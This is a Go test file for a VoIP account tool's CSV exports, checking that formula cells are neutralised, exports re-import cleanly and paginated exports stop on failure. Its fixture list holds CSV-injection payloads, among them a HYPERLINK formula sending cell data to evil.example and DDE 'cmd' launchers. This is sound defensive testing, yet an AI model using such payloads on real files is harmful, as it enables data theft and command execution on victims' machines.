package activation

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/activator-voip/activator/internal/model"
	"github.com/activator-voip/activator/internal/store"
	"github.com/activator-voip/activator/internal/store/storetest"
)

// Cells a spreadsheet would run as formulas, in every column a user or an
// attacker can fill.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
	`+HYPERLINK("https://evil.example")`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// signedNumberRE is what signedNumber matches, as the regular expression
// it stands for.
var signedNumberRE = regexp.MustCompile(`^[+-][0-9]{1,20}$`)

func TestSignedNumberIsItsRegexp(t *testing.T) {
	for _, v := range []string{"", "+", "-", "+3", "-0", "+393331234567", "+12345678901234567890", "+123456789012345678901",
		"++1", "+-1", "+1a", "+1 ", " +1", "+1\n", "1", "=1", "+١", "-12345678901234567890"} {
		if got, want := signedNumber(v), signedNumberRE.MatchString(v); got != want {
			t.Errorf("signedNumber(%q) = %v, the regexp says %v", v, got, want)
		}
	}
}

// checkNoFormula fails for any cell of a CSV export that a spreadsheet
// would read as a formula.
func checkNoFormula(t *testing.T, what string, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) && !signedNumberRE.MatchString(cell) {
				t.Errorf("%s: row %d column %d is read as a formula: %q", what, i+1, j+1, cell)
			}
		}
	}
	return recs
}

func TestExportsNeutraliseFormulasAndImportBackUnchanged(t *testing.T) {
	storetest.ForEach(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		dom := newDomain(t, st)
		mustGroup(t, dom, "sales")
		for i, f := range formulas {
			mobile := fmt.Sprintf("+3933312345%02d", i)
			name := "Eve " + strings.TrimSpace(f)
			if strings.IndexByte(formulaStart, f[0]) >= 0 && f[0] != '\t' && f[0] != '\r' {
				name = f // a name that is itself a formula
			}
			if _, err := dom.Accounts.Create(ctx, model.AccountInput{Group: strp("sales"), Name: strp(name), Description: strp(f), Mobile: strp(mobile)}, admin); err != nil {
				t.Fatalf("account %q: %v", f, err)
			}
			if err := dom.Audit.Add(ctx, Caller{Name: f, Role: model.RoleAdmin, OrgID: model.DefaultOrgID}, "127.0.0.1", "console", "POST /console/login", f, 401, nil, nil); err != nil {
				t.Fatal(err)
			}
		}
		var accounts, audit bytes.Buffer
		if err := dom.Accounts.Export(ctx, &accounts, "", "", "", admin); err != nil {
			t.Fatal(err)
		}
		if err := dom.Audit.Export(ctx, &audit, AuditFilter{}, admin); err != nil {
			t.Fatal(err)
		}
		checkNoFormula(t, "account export", accounts.Bytes())
		// A phone number is a plain number to a spreadsheet: it stays as it is.
		if !strings.Contains(accounts.String(), ",+393331234500,") {
			t.Errorf("the export changed a phone number:\n%s", accounts.String())
		}
		if recs := checkNoFormula(t, "audit export", audit.Bytes()); len(recs) != len(formulas)+1 {
			t.Errorf("audit export: %d rows, want %d", len(recs), len(formulas)+1)
		}
		// The export reads back as the same accounts: every row matches one.
		p, err := dom.Imports.Preview(ctx, "export.csv", accounts.Bytes(), ImportOptions{}, admin)
		if err != nil {
			t.Fatalf("importing the export back: %v", err)
		}
		if p.Exists != len(formulas) || p.Create != 0 || p.Invalid != 0 {
			t.Fatalf("the export read back: %d exist, %d to create, %d invalid (%+v); want all %d to exist",
				p.Exists, p.Create, p.Invalid, p.Errors, len(formulas))
		}
		for _, r := range p.Rows {
			if !strings.HasPrefix(r.Name, "Eve ") && !strings.ContainsRune(formulaStart, rune(r.Name[0])) {
				t.Errorf("a name read back as %q: the neutralising quote was kept", r.Name)
			}
		}
	})
}

// failingWriter fails once it has taken n bytes.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		return 0, errors.New("the client went away")
	}
	w.n -= len(p)
	return len(p), nil
}

// TestExportStopsWhenItCannotGoOn: an export of several pages (each read
// while the one before is written) ends with an error, having read no
// further, when its writer fails or its context is cancelled between
// pages; otherwise it writes every account once, newest first.
func TestExportStopsWhenItCannotGoOn(t *testing.T) {
	storetest.ForEach(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		dom := newDomain(t, st)
		mustGroup(t, dom, "sales")
		g, err := st.GroupByName(ctx, model.DefaultOrgID, "sales")
		if err != nil {
			t.Fatal(err)
		}
		const n = 2*exportPage + 10
		rows := make([]*store.AccountRow, n)
		for i := range rows {
			rows[i] = &store.AccountRow{OrgID: model.DefaultOrgID, Account: model.Account{GroupID: g.ID,
				Username: fmt.Sprint(3000000000 + i), DisplayName: fmt.Sprintf("Export %d", i), SecurityModel: model.EndToEnd,
				VirtualNumber: fmt.Sprint(300000 + i), Kind: "wizard", Stage: model.StageNew}}
		}
		if err := st.Tx(ctx, func(tx *store.Tx) error {
			return tx.InsertAccounts(ctx, rows, "test", func(*store.AccountRow) string { return "" })
		}); err != nil {
			t.Fatal(err)
		}

		var all bytes.Buffer
		pages := 0
		got, err := dom.Accounts.ExportRows(ctx, &all, "", "", "", admin, func(int) error { pages++; return nil })
		if err != nil || got != n || pages != 3 {
			t.Fatalf("export: %d rows in %d pages, %v; want %d in 3", got, pages, err, n)
		}
		recs, err := csv.NewReader(&all).ReadAll()
		if err != nil || len(recs) != n+1 {
			t.Fatalf("export: %d records, %v", len(recs), err)
		}
		for i, r := range recs[1:] {
			if want := fmt.Sprint(3000000000 + n - 1 - i); r[8] != want {
				t.Fatalf("row %d: username %s, want %s (newest first, each once)", i+1, r[8], want)
			}
		}

		if got, err := dom.Accounts.ExportRows(ctx, &failingWriter{n: 100 << 10}, "", "", "", admin, nil); err == nil || got >= exportPage {
			t.Errorf("a failing writer: %d rows, %v; want an error within the first page", got, err)
		}
		cctx, cancel := context.WithCancel(ctx)
		defer cancel()
		got, err = dom.Accounts.ExportRows(cctx, io.Discard, "", "", "", admin, func(int) error { cancel(); return nil })
		if !errors.Is(err, context.Canceled) || got != exportPage {
			t.Errorf("cancelled after the first page: %d rows, %v; want %d and context.Canceled", got, err, exportPage)
		}
	})
}
